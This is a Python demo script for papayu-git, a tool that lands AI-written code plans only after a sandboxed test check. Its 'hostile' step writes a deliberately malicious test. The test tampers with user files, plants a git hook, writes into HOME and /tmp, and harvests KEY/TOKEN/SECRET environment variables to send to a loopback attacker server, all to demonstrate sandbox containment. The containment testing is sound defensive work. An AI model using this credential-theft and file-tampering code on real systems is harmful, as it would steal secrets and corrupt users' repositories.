"""`make demo`: papayu-git end to end on a built-in sample repository.

Validates a good and a bad plan, then runs the real transaction on a sample
project with a failing test: a wrong fix is rolled back (branch unchanged), the
right fix lands, its check run sandboxed (bwrap) in an isolated checkout. Then
`git papayu doctor`, a hostile plan whose test tries to escape the check (blocked),
agent mode with a scripted tool-calling server, traces, memory, the pre-commit hook, and the same
flow with the embedded model.
Where bubblewrap cannot run, the check runs unsandboxed: the demo says so and
skips the hostile step's strict assertions.

`python demo/run_demo.py STEP...` runs only those steps (doctor, observability and
hooks use the sample repository of the apply step).
"""

from __future__ import annotations

import argparse
import hashlib
import importlib.util
import json
import os
import shlex
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
WORK = ROOT / "demo-work"
# Each sample repository's check; quoted, as the interpreter's path may hold a space.
CHECK = f"{shlex.quote(sys.executable)} -m pytest -q -p no:cacheprovider"
# The check's sandbox here: None = bwrap works (tried once), else why the check runs unsandboxed.
SANDBOX_REASON: str | None = None


def step(text: str) -> None:
    print(f"\n==> {text}", flush=True)


def sh(
    *args: str, cwd: Path = WORK, check: bool = True, env: dict[str, str] | None = None, show: bool = True
) -> subprocess.CompletedProcess[str]:
    print("$ " + shlex.join(args), flush=True)
    proc = subprocess.run(args, cwd=cwd, text=True, capture_output=True, env={**os.environ, **env} if env else None)
    if show:
        sys.stdout.write(proc.stdout)
        sys.stdout.write(proc.stderr)
    if check and proc.returncode != 0:
        raise SystemExit(f"demo step failed: {' '.join(args)} (exit {proc.returncode})")
    return proc


def demo_validate(papayu: list[str]) -> None:
    step("A good plan validates")
    good = {
        "actions": [{"kind": "CREATE_FILE", "path": "hello.py", "content": "print('hi')\n"}],
        "summary": "add hello.py",
    }
    (WORK / "good.json").write_text(json.dumps(good))
    sh(*papayu, "validate", "good.json")
    step("A plan that writes into .git and a secret is rejected with ERR codes")
    bad = {
        "actions": [
            {"kind": "CREATE_FILE", "path": "src/.GIT/config", "content": "x"},
            {"kind": "UPDATE_FILE", "path": ".env", "content": "TOKEN=1"},
        ]
    }
    (WORK / "bad.json").write_text(json.dumps(bad))
    proc = sh(*papayu, "validate", "bad.json", check=False)
    assert proc.returncode == 1, "the bad plan must be rejected"
    step("The 12 golden traces of the original papa-yu replay with their recorded outcomes")
    traces = sorted(str(p) for p in (ROOT / "tests" / "golden" / "upstream").glob("v*/*.json"))
    sh(*papayu, "validate", *traces)


BUGGY = "def add(a, b):\n    return a - b\n"
TEST = "from calc import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"


def sample_repo(name: str = "sample") -> Path:
    """A tiny project with a failing test, a local edit and an untracked note of the user's."""
    repo = WORK / name
    (repo / "tests").mkdir(parents=True)
    (repo / "calc.py").write_text(BUGGY)
    (repo / "tests" / "test_calc.py").write_text(TEST)
    (repo / "pyproject.toml").write_text("[tool.pytest.ini_options]\npythonpath = ['.']\n")
    for args in (
        ["init", "-q", "-b", "main"],
        ["config", "user.name", "Demo User"],
        ["config", "user.email", "demo@example.com"],
        ["add", "-A"],
        ["commit", "-q", "-m", "calc"],
    ):
        subprocess.run(["git", *args], cwd=repo, check=True)
    (repo / "NOTES.md").write_text("my untracked notes\n")
    return repo


def patch_plan(new_line: str, summary: str) -> dict[str, object]:
    diff = f"--- a/calc.py\n+++ b/calc.py\n@@ -1,2 +1,2 @@\n def add(a, b):\n-    return a - b\n+    {new_line}\n"
    return {
        "actions": [
            {
                "kind": "PATCH_FILE",
                "path": "calc.py",
                "patch": diff,
                "base_sha256": hashlib.sha256(BUGGY.encode()).hexdigest(),
            }
        ],
        "summary": summary,
    }


def demo_apply(papayu: list[str]) -> None:
    repo = sample_repo()
    sh("git", "config", "papayu.check.command", CHECK, cwd=repo)
    step("The sample project's test fails")
    assert sh(*shlex.split(CHECK), cwd=repo, check=False).returncode != 0
    head = sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip()

    step(
        "A WRONG plan (a * b) is committed and checked per test against the tip: test_add failed there "
        "and still fails, the plan fixes nothing -> NOT landed, kept for review"
    )
    (WORK / "wrong.json").write_text(json.dumps(patch_plan("return a * b", "use multiplication")))
    proc = sh(*papayu, "apply", str(WORK / "wrong.json"), "--json", cwd=repo, check=False)
    wrong = json.loads(proc.stdout)
    assert proc.returncode == 1 and wrong["state"] == "review", "the wrong plan must not land"
    assert wrong["error"]["code"] == "ERR_CHECK_FIXES_NOTHING"
    step("Your branch, working tree and untracked files are unchanged; drop the kept plan")
    sh("git", "log", "--oneline", cwd=repo)
    sh("git", "status", "--short", cwd=repo)
    assert sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip() == head
    assert (repo / "calc.py").read_text() == BUGGY and (repo / "NOTES.md").exists()
    sh(*papayu, "drop", wrong["plan_id"], cwd=repo)
    assert not sh("git", "branch", "--list", "papayu/*", cwd=repo).stdout.strip()

    step("The fix plan (a + b) passes the check in its checkout -> main is fast-forwarded")
    (WORK / "fix.json").write_text(json.dumps(patch_plan("return a + b", "fix add(): use addition")))
    proc = sh(*papayu, "apply", str(WORK / "fix.json"), cwd=repo)
    sh("git", "log", "-1", "--format=%h %s%n%n%b", cwd=repo)
    assert "return a + b" in (repo / "calc.py").read_text() and (repo / "NOTES.md").exists()
    sh(*shlex.split(CHECK), cwd=repo)
    show_check_sandbox(repo, proc.stderr)
    step("Plans and their states")
    sh(*papayu, "list", cwd=repo)


def show_check_sandbox(repo: Path, apply_stderr: str) -> None:
    """The line papayu printed before the check ran, and the trailers of the landed commit."""
    step(
        "Where the check ran: papayu names the command, its source and the sandbox before running it, "
        "and the landed commit records them"
    )
    said = [line for line in apply_stderr.splitlines() if line.startswith("check: ")]
    print("papayu said:  " + (said[0] if said else "(no check line)"))
    trailers = sh(
        "git",
        "log",
        "-1",
        "--format=%(trailers:key=Papayu-Check,key=Papayu-Check-Command,key=Papayu-Check-Source,key=Papayu-Sandbox)",
        cwd=repo,
    ).stdout
    assert said and "Papayu-Check-Source: git config papayu.check.command" in trailers
    assert "Papayu-Check: passed 1, fixed 1, already failing 0" in trailers  # the verdict, per test
    if SANDBOX_REASON is None:
        assert said[0].endswith("sandbox: bwrap)") and "Papayu-Sandbox: bwrap" in trailers
        print(
            "-> the check ran under bubblewrap: the plan's tree at the repository's own path, the system and "
            "toolchains read-only, the project's environment copy-on-write, nothing else of yours, no network, "
            "no API keys in its environment"
        )
    else:
        assert "Papayu-Sandbox: none" in trailers
        print(
            f"-> bubblewrap is unavailable here ({SANDBOX_REASON}): the check ran UNSANDBOXED "
            "(isolated checkout and allowlisted environment only); see `git papayu doctor`"
        )


def demo_doctor(papayu: list[str]) -> None:
    step("`git papayu doctor`: what papayu can use here, each item actually tried")
    sh(*papayu, "doctor", cwd=WORK / "sample", check=False)


FAKE_KEY = "sk-demo-0000-not-a-real-key"


def escape_targets(repo: Path, marker: str) -> dict[str, Path]:
    """Where the hostile test tries to write, as paths of this machine: the user's files, a git
    hook, beside the repository, HOME and /tmp. New files carry the marker in their names, and
    every write appends it: no file can look escaped but by the attack's own hand."""
    return {
        "overwrite your notes": repo / "NOTES.md",
        "edit your calc.py": repo / "calc.py",
        "plant a git hook in your .git/hooks": repo / ".git" / "hooks" / "post-checkout",
        "write outside the repository": repo.parent / f"{marker}.txt",
        "write into your HOME": Path.home() / f".{marker}",
        "write into the machine's /tmp": Path("/tmp") / marker,
    }


def reached_host(targets: dict[str, Path], marker: str) -> list[str]:
    """The attempts whose marker is in the file on this machine after the check.

    Judged here, outside the sandbox, never from what the sandboxed test printed: a write into
    the sandbox's private /tmp or HOME, or into its own checkout, succeeds in there and vanishes
    with it (docs/DESIGN.md, "The check's trust boundary")."""
    found = []
    for what, path in targets.items():
        try:
            if marker.encode() in path.read_bytes():
                found.append(what)
        except OSError:  # absent, or not a readable file: nothing of the attack arrived there
            continue
    return found


def _attack_test(targets: dict[str, Path], marker: str, port: int, token: str) -> str:
    """The test file of a hostile plan: it appends the marker to every target, tries the network,
    prints what it saw from inside, and (written as an exploit's proof) passes only if it stole a key."""
    attempts = [(what, str(path)) for what, path in targets.items()]
    return textwrap.dedent(f"""\
        import os, socket

        TARGETS, MARKER, PORT, TOKEN = {attempts!r}, {marker!r}, {port}, {token!r}


        def attempt(what, action):
            try:
                action()
                print(f"ATTACK {{what}}: written, as the test sees it")
            except Exception as exc:
                print(f"ATTACK {{what}}: blocked ({{type(exc).__name__}}: {{exc}})")


        def send(data):
            with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
                s.sendall(TOKEN.encode() + data)


        def append(path):
            with open(path, "a") as f:
                f.write(MARKER + "\\n")


        def test_hostile():
            for what, path in TARGETS:
                attempt(f"{{what}} {{path}}", lambda path=path: append(path))
            stolen = {{k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "TOKEN", "SECRET"))}}
            print("ATTACK read API keys from the environment:", sorted(stolen) or "none there")
            attempt(f"send them to 127.0.0.1:{{PORT}}", lambda: send(repr(stolen).encode()))
            print("ATTACK HOME is", os.environ.get("HOME"))
            assert stolen, "the exploit got no key"
    """)


def demo_hostile(papayu: list[str]) -> None:
    """A plan is model-written code, and the check is where it first runs: its test is hostile."""
    step(
        "A HOSTILE plan: its new test tries to overwrite your files, plant a git hook, write outside "
        "the repository, into HOME and /tmp, and steal an API key from papayu's environment"
    )
    repo = sample_repo("sample-hostile")
    (repo / "calc.py").write_text(BUGGY.replace("a - b", "a + b"))
    subprocess.run(["git", "commit", "-q", "-am", "fix add"], cwd=repo, check=True)
    sh("git", "config", "papayu.check.command", CHECK, cwd=repo)
    (repo / "calc.py").write_text("# my uncommitted edit\n" + (repo / "calc.py").read_text())
    marker = f"papayu-demo-escape-{os.urandom(8).hex()}"
    targets = escape_targets(repo, marker)
    before = {p: (repo / p).read_bytes() for p in ("calc.py", "NOTES.md")}
    head = sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip()
    status = sh("git", "status", "--short", cwd=repo).stdout
    try:
        proc, accepted = _apply_hostile(papayu, repo, targets, marker)
        escaped = reached_host(targets, marker)
    finally:  # what the attack left on this machine goes, whatever the verdict
        for path in targets.values():
            if marker in path.name:
                path.unlink(missing_ok=True)
    logs = sorted((repo / ".git" / "papayu" / "checks").glob("*.log"), key=lambda p: p.stat().st_mtime)
    log = logs[-1].read_text() if logs else ""
    report = [line for line in log.splitlines() if line.startswith("ATTACK ")]
    step(
        "What the test saw from inside (the check's log): a write into the sandbox's private /tmp or "
        "HOME, or into its own checkout, works in there and vanishes with the sandbox"
    )
    print("\n".join(report) or "(no report: the test did not run)")
    step("What reached this machine, judged here outside the sandbox: the marker looked for at each target")
    for what, path in targets.items():
        print(f"{'ESCAPED' if what in escaped else 'contained'}: {what} ({path})")
    print(f"connections that reached the attacker's server: {accepted}")
    if SANDBOX_REASON is not None:
        print(
            f"the check ran UNSANDBOXED here ({SANDBOX_REASON}): only the environment allowlist applied; "
            "the hostile step's strict assertions are skipped (the files it wrote beside the "
            "repository, in HOME and /tmp are removed)"
        )
        return
    if escaped:
        raise SystemExit(f"demo: the hostile test's writes reached this machine: {', '.join(escaped)}")
    step(
        "Blocked: the plan was rolled back, and nothing of yours changed; nothing outside the checkout "
        "was written; no key reached the check"
    )
    assert proc.returncode == 1, "the hostile plan must not land"
    assert sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip() == head
    assert sh("git", "status", "--short", cwd=repo).stdout == status
    assert all((repo / p).read_bytes() == data for p, data in before.items()), "your files must be unchanged"
    assert accepted == 0 and FAKE_KEY not in log
    assert len(report) >= len(targets) + 2, "the hostile test must have run"
    assert "none there" in log, "no key may reach the check"


def _apply_hostile(
    papayu: list[str], repo: Path, targets: dict[str, Path], marker: str
) -> tuple[subprocess.CompletedProcess[str], int]:
    """`git papayu apply` the hostile plan with keys in papayu's environment and an attacker's
    server listening; returns the run and how many connections reached the server."""
    from papayu_git.check.sandbox import LoopbackListener

    with LoopbackListener() as listener:
        token = listener.token()  # what the attack sends first: only its own connection counts
        plan = {
            "actions": [
                {
                    "kind": "CREATE_FILE",
                    "path": "tests/test_hostile.py",
                    "content": _attack_test(targets, marker, listener.port, token),
                }
            ],
            "summary": "add a test",
        }
        (WORK / "hostile.json").write_text(json.dumps(plan))
        print(f"(papayu runs with OPENAI_API_KEY={FAKE_KEY} and GITHUB_TOKEN set)")
        proc = sh(
            *papayu,
            "apply",
            str(WORK / "hostile.json"),
            cwd=repo,
            check=False,
            show=False,
            env={"OPENAI_API_KEY": FAKE_KEY, "GITHUB_TOKEN": "ghp_demo0000notarealtoken"},
        )
        reached = listener.reached(token)
    sys.stdout.write(proc.stdout)  # the check's output tail is left out here: the report below is in it
    print("\n".join(line for line in proc.stderr.splitlines() if line.startswith(("check", "ERR_", "warning"))))
    return proc, reached


def demo_agent(papayu: list[str]) -> None:
    """Agent mode against a SCRIPTED tool-calling server (a fixed conversation, not a model)."""
    from scripted_agent import ScriptedAgentServer

    repo = sample_repo("sample-agent")
    sh("git", "config", "papayu.check.command", CHECK, cwd=repo)
    head = sh("git", "rev-parse", "HEAD", cwd=repo, show=False).stdout.strip()
    server = ScriptedAgentServer()
    try:
        step(
            "Agent mode, with a SCRIPTED tool-calling server standing in for the model (a fixed "
            "conversation, not an LLM): it lists files, reads calc.py, patches it in papayu's private "
            "workspace, runs the check there, then ends; papayu checks the result again and lands it"
        )
        env = {"PAPAYU_LLM_BASE_URL": server.base_url, "PAPAYU_LLM_MODEL": "scripted-agent"}
        proc = sh(*papayu, "agent", "fix add() in calc.py", "-y", "--json", cwd=repo, env=env, show=False)
        sys.stdout.write(proc.stderr)
        data = json.loads(proc.stdout)
        print(f"run_tests answered the model: {server.tool_results[-1].splitlines()[0]}")
        assert data["apply"]["state"] == "landed", data
        step("The agent's plan lists its tool calls; the branch moved only after the green check")
        sh(*papayu, "show", data["agent"]["plan_id"], cwd=repo)
        sh("git", "log", "--oneline", f"{head}~0..HEAD", cwd=repo)
        assert "return a + b" in (repo / "calc.py").read_text() and (repo / "NOTES.md").exists()
    finally:
        server.close()


def demo_observability(papayu: list[str]) -> None:
    repo = WORK / "sample"
    step("Every apply left a trace (secrets masked); stats say how the applies went and whether diffs-only is safe")
    sh(*papayu, "trace", "list", cwd=repo)
    sh(*papayu, "stats", "--last", "10", cwd=repo)
    step("Engineering memory: project defaults the model sees in ENGINEERING_MEMORY")
    sh(*papayu, "memory", "set", "project.test_roots", "tests", cwd=repo)
    sh(*papayu, "memory", "show", cwd=repo)
    sh("git", "checkout", "-q", "--", ".", cwd=repo)
    (repo / ".papa-yu" / "project.json").unlink()


def demo_hooks(papayu: list[str]) -> None:
    repo = WORK / "sample"
    step("The plain git pre-commit hook: an invalid plan file under .papa-yu/ cannot be committed")
    sh(*papayu, "hooks", "install", cwd=repo)
    (repo / ".papa-yu").mkdir(exist_ok=True)
    (repo / ".papa-yu" / "escape.json").write_text(
        json.dumps(
            {"actions": [{"kind": "CREATE_FILE", "path": "../outside.txt", "content": "x"}], "summary": "escape"}
        )
    )
    sh("git", "add", ".papa-yu", cwd=repo)
    assert sh("git", "commit", "-q", "-m", "add a plan", cwd=repo, check=False).returncode != 0
    sh("git", "reset", "-q", cwd=repo)
    (repo / ".papa-yu" / "escape.json").unlink()


STRONGER_MODEL = """\
The embedded model (Gemma 3 270M) is tiny: papayu's validation and check are what keep it safe.
Point papayu at a stronger model for real work:
  OpenAI:        export PAPAYU_LLM_PROVIDER=openai OPENAI_API_KEY=sk-...  [PAPAYU_LLM_MODEL=gpt-4o-mini]
  Ollama:        export PAPAYU_LLM_PROVIDER=ollama PAPAYU_LLM_MODEL=qwen2.5-coder:7b
  llama.cpp/vLLM/LM Studio (OpenAI-compatible):
                 export PAPAYU_LLM_BASE_URL=http://127.0.0.1:8080/v1 PAPAYU_LLM_MODEL=<served model>
  (or the same keys in git config: git config papayu.llm.baseUrl ...; README: providers)"""


def demo_local_model(papayu: list[str]) -> None:
    """The model in front: plan -> apply on the embedded local model.

    The tiny model is often wrong; a rejected answer or a rolled-back fix is a valid ending:
    the point is that nothing reaches the user's branch unless the check passes."""
    step("The whole flow with a real model: the embedded local llama.cpp server (Gemma 3 270M)")
    if importlib.util.find_spec("xllamacpp") is None:
        print("papayu-git[local] is not installed here (make venv installs it); skipping the model step")
        print(STRONGER_MODEL)
        return
    repo = sample_repo("sample-llm")
    sh("git", "config", "papayu.check.command", CHECK, cwd=repo)
    head = sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip()
    env = {k: v for k, v in os.environ.items() if not k.startswith("PAPAYU_LLM_")}
    env.update(PAPAYU_LLM_MAX_TOKENS="400", PAPAYU_LLM_TIMEOUT_SEC="900", PAPAYU_LOG="1")
    goal = "fix the failing test tests/test_calc.py: add() must return a + b"
    print(f"$ git papayu fix {goal!r} -y    (no provider configured -> the local model is started)", flush=True)
    print("(a small model on this machine's CPU: minutes on a busy one; papayu's events show each step)", flush=True)
    proc = subprocess.run([*papayu, "fix", goal, "-y"], cwd=repo, env=env, text=True)  # live, as it happens
    landed = proc.returncode == 0 and sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip() != head
    if landed:
        step("The model's fix passed the sandboxed check and landed")
        sh("git", "log", "-1", "--format=%h %s", cwd=repo)
    else:
        step(
            "The model's answer was rejected, its change failed the check, or it edits the existing test "
            "(kept on papayu/<id> for review): nothing landed"
        )
        assert sh("git", "rev-parse", "HEAD", cwd=repo).stdout.strip() == head, "the branch must be unchanged"
        assert (repo / "calc.py").read_text() == BUGGY, "the working tree must be unchanged"
        sh("git", "status", "--short", cwd=repo)
    print()
    print(STRONGER_MODEL)


STEPS = {
    "validate": demo_validate,
    "apply": demo_apply,
    "doctor": demo_doctor,
    "hostile": demo_hostile,
    "agent": demo_agent,
    "observability": demo_observability,
    "hooks": demo_hooks,
    "local_model": demo_local_model,
}
SUMMARY = (
    "bad plans rejected, the wrong fix kept from landing (it fixes nothing the tip fails), the right fix landed after a {check} check, the hostile "
    "plan's escapes {escapes}, a scripted agent run landed after its check, and the local model's attempt "
    "ended cleanly"
)


def main(argv: list[str] | None = None) -> None:
    global SANDBOX_REASON
    from papayu_git.check.sandbox import unavailable_reason

    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("steps", nargs="*", metavar="STEP", help="run only these: " + ", ".join(STEPS))
    steps = parser.parse_args(argv).steps or list(STEPS)
    if unknown := sorted(set(steps) - set(STEPS)):
        parser.error(f"no step {', '.join(unknown)} (steps: {', '.join(STEPS)})")
    shutil.rmtree(WORK, ignore_errors=True)
    WORK.mkdir()
    papayu = [sys.executable, "-m", "papayu_git"]
    # The demo shows the defaults, whatever this shell sets: sandbox when bwrap works, no network.
    os.environ.update(PAPAYU_CHECK_SANDBOX="auto", PAPAYU_CHECK_NETWORK="false")
    os.environ.pop("PAPAYU_CHECK_COMMAND", None)  # each sample repository configures its own check
    SANDBOX_REASON = unavailable_reason()
    print(
        "the check's sandbox here: "
        + ("bwrap" if SANDBOX_REASON is None else f"none, the check runs UNSANDBOXED ({SANDBOX_REASON})")
    )
    for name in STEPS:
        if name in steps:
            STEPS[name](papayu)
    if len(steps) < len(STEPS):
        print(f"\ndemo finished: {', '.join(name for name in STEPS if name in steps)}")
        return
    sandboxed = SANDBOX_REASON is None
    print(
        "\ndemo finished: "
        + SUMMARY.format(
            check="sandboxed" if sandboxed else "(here unsandboxed)", escapes="blocked" if sandboxed else "reported"
        )
    )


if __name__ == "__main__":
    main()
